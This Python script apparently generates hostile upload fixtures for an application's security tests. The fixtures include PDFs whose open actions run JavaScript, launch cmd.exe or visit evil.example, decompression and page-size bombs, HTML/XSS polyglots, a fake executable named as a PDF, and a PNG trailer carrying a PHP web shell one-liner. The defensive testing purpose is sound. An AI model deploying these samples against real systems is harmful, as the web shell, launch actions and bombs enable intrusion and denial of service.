"""Writes the hostile upload fixtures beside this file: `python tests/security/hostile/make_hostile.py`.

Each file is small and deterministic, so the set is committed and reviewed like code. Files
that are large by nature (the size limit plus one byte, 101 files) are made by the tests.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def minimal_pdf(extra_catalog: bytes = b"", trailer_tail: bytes = b"") -> bytes:
    """A one-page PDF written by hand, with cross-reference offsets computed."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out) + trailer_tail


def pdf_with_object_stream(packed: list[bytes], loose: tuple[bytes, ...] | list[bytes] = ()) -> bytes:
    """A PDF whose first objects sit in a compressed object stream (so none of their names
    appear in the file's bytes), with a cross-reference stream, as PDF 1.5 writers make them.
    Object 1 must be the catalog; `loose` objects follow the packed ones, uncompressed."""
    offsets, body = [], b""
    for item in packed:
        offsets.append(len(body))
        body += item + b"\n"
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in zip(range(1, len(packed) + 1), offsets, strict=True))
    first = len(header) + 1
    stream = zlib.compress(header + b"\n" + body)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    positions: dict[int, int] = {}
    number = len(packed) + 1
    for item in loose:
        positions[number] = len(out)
        out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
        number += 1
    stream_number = number
    positions[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stream_number, len(packed), first, len(stream))
    out += stream + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    positions[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, stream_number, index) for index in range(len(packed))]
    rows += [struct.pack(">BIH", 1, positions[n], 0) for n in range(len(packed) + 1, xref_number + 1)]
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number, xref_number + 1, len(table))
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % positions[xref_number]
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def packed_pdf(catalog_extra: bytes, *more: bytes, page: bytes = PAGE) -> bytes:
    """A one-page PDF with its catalog, pages and `more` objects (4, 5…) all packed and compressed."""
    return pdf_with_object_stream([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", PAGES, page, *more])


def flate_bomb_pdf() -> bytes:
    """A page whose content stream is 300 MB of spaces squeezed into about 300 KB."""
    compressor = zlib.compressobj(9)
    block = b" " * (1 << 20)
    content = b"".join(compressor.compress(block) for _ in range(300)) + compressor.flush()
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    return pdf_with_object_stream([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page], [stream])


def object_stream_bomb_pdf() -> bytes:
    """The catalog packed in an object stream that inflates to 100 MB (past any sane limit)."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    compressor = zlib.compressobj(9)
    body = b"1 0 2 40\n" + catalog + b"\n" + b" " * 7
    padding = b"".join(compressor.compress(b" " * (1 << 20)) for _ in range(100))
    stream = compressor.compress(body) + padding + compressor.flush()
    # An object stream written by hand so its inflated size is far past the limit.
    base = pdf_with_object_stream([catalog, PAGES, PAGE])
    start = base.index(b"/Type /ObjStm")
    length_start = base.index(b"/Length ", start) + 8
    length_end = base.index(b" >>", length_start)
    data_start = base.index(b"stream\n", length_end) + 7
    data_end = base.index(b"\nendstream", data_start)
    return base[:length_start] + b"%d" % len(stream) + base[length_end:data_start] + stream + base[data_end:]


def many_objects_pdf(count: int = 30_000) -> bytes:
    """A page followed by tens of thousands of tiny objects nobody needs."""
    filler = [b"%d" % n for n in range(count)]
    return pdf_with_object_stream([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, *filler])


def many_pages_pdf(count: int = 20_000) -> bytes:
    """One page listed twenty thousand times in the page tree."""
    kids = b" ".join(b"3 0 R" for _ in range(count))
    pages = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count
    return pdf_with_object_stream([b"<< /Type /Catalog /Pages 2 0 R >>", pages, PAGE])


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, idat: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def small_png() -> bytes:
    rows = b"".join(b"\x00" + b"\x80" * 8 for _ in range(8))
    return png(8, 8, zlib.compress(rows))


def small_jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (20, 120, 200)).save(out, format="JPEG")
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(document.cookie)</script>")
    return out.getvalue()


def decompression_bomb() -> bytes:
    """8,000 × 8,000 grey pixels (64 MB when decoded) in about 60 KB."""
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * 8000
    idat = b"".join(compressor.compress(row) for _ in range(8000)) + compressor.flush()
    return png(8000, 8000, idat)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header is rewritten to claim another size."""
    data = bytearray(small_jpeg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_with_html() -> bytes:
    """A real PNG carrying an HTML page in a text chunk and in a private chunk (a PNG+HTML polyglot)."""
    page = b"<html><script>alert(document.domain)</script></html>"
    image = small_png()
    end = image.index(b"IEND") - 4
    return image[:end] + png_chunk(b"tEXt", b"Comment\x00" + page) + png_chunk(b"hTML", page) + image[end:]


def jpeg_with_html_comment() -> bytes:
    data = small_jpeg()
    comment = b"<html><script>alert(document.domain)</script></html>"
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


FILES: dict[str, bytes] = {
    # A PDF that runs JavaScript when opened (and is also readable as a script: a polyglot).
    "polyglot-pdf-javascript.pdf": minimal_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\)) >> ")
    + b"/*<script>alert(1)</script>*/\n",
    # A PDF that asks the reader to start a program, the name hidden with a #xx escape.
    "launch-action.pdf": minimal_pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >> "),
    # A real JPEG with a ZIP archive appended after its end-of-image marker.
    "jpeg-with-zip.jpg": small_jpeg() + zip_bytes(),
    # A PNG with data after IEND.
    "png-with-trailer.png": small_png() + b"<?php system($_GET['c']); ?>",
    # A PDF with an HTML page after %%EOF.
    "pdf-with-trailer.pdf": minimal_pdf(trailer_tail=b"<html><body><script>alert(1)</script></body></html>\n"),
    # A PNG declaring 50,000 × 50,000 pixels (2.5 gigapixels) in a few dozen bytes.
    "pixel-flood.png": png(50_000, 50_000, zlib.compress(b"\x00" * 64)),
    "decompression-bomb.png": decompression_bomb(),
    # The EICAR antivirus test string, named as a PDF.
    "eicar.pdf": EICAR,
    # Scripts and markup pretending to be images.
    "svg-disguised.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
    "html-disguised.jpg": b"<!doctype html><html><script>fetch('/en/portal/').then(r=>r.text())</script></html>",
    # A Windows executable named as a PDF.
    "executable.pdf": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00",
    # A real PNG named as a PDF: the extension does not match the content.
    "png-named.pdf": small_png(),
    # A GIF named as a JPEG.
    "gif-named.jpg": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
    "empty.pdf": b"",
    # --- active content the raw bytes do not show: packed in a compressed object stream ------
    "objstm-openaction-javascript.pdf": packed_pdf(b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"),
    "objstm-launch.pdf": packed_pdf(b"/OpenAction 4 0 R", b"<< /S /Launch /F (cmd.exe) /NewWindow true >>"),
    "objstm-embedded-file.pdf": packed_pdf(
        b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>",
    ),
    "objstm-richmedia.pdf": packed_pdf(
        b"",
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << >> >> >>",
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
    ),
    "objstm-xfa-form.pdf": packed_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"(<xdp:xdp></xdp:xdp>)"),
    "objstm-page-open-uri.pdf": packed_pdf(
        b"", page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>"
    ),
    # An action chained after a harmless one: the /Next step runs too.
    "objstm-openaction-next-javascript.pdf": packed_pdf(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", b"<< /S /JavaScript /JS (this.print\\(\\)) >>"
    ),
    # Opening the file visits a web address (uncompressed: no word the old byte search knew).
    "openaction-uri.pdf": minimal_pdf(b"/OpenAction << /S /URI /URI (https://evil.example/track) >> "),
    # --- bombs ------------------------------------------------------------------------------
    # The page of the issue: a few hundred bytes, a 5,000-point (1.76 m) square page.
    "page-bomb-mediabox.pdf": pdf_with_object_stream(
        [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 5000 5000] >>"]
    ),
    # A normal-looking page made 75,000 times larger by its user unit.
    "page-bomb-userunit.pdf": pdf_with_object_stream(
        [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /UserUnit 75000 >>"]
    ),
    "page-count-bomb.pdf": many_pages_pdf(),
    "flate-bomb-content.pdf": flate_bomb_pdf(),
    "flate-bomb-object-stream.pdf": object_stream_bomb_pdf(),
    "many-objects.pdf": many_objects_pdf(),
    # --- encrypted, truncated, polyglots, wrong names ------------------------------------------
    "encrypted.pdf": encrypted_pdf(),
    "truncated.pdf": minimal_pdf()[:150],
    "truncated.png": small_png()[:60],
    "truncated.jpg": small_jpeg()[:300],
    "pdf-zip-polyglot.pdf": minimal_pdf() + zip_bytes(),
    "png-html-polyglot.png": png_with_html(),
    "jpeg-html-comment.jpg": jpeg_with_html_comment(),
    "pdf-named.png": minimal_pdf(),
    "jpeg-named.png": small_jpeg(),
    # Header claims only: 100,000 × 100,000 pixels (PNG), 65,000 × 65,000 (the most a JPEG can say).
    "huge-dimensions.png": png(100_000, 100_000, zlib.compress(b"\x00" * 64)),
    "huge-dimensions.jpg": jpeg_claiming(65_000, 65_000),
}


def main() -> None:
    for name, content in FILES.items():
        (HERE / name).write_bytes(content)
    print(f"wrote {len(FILES)} files to {HERE}")


if __name__ == "__main__":
    main()
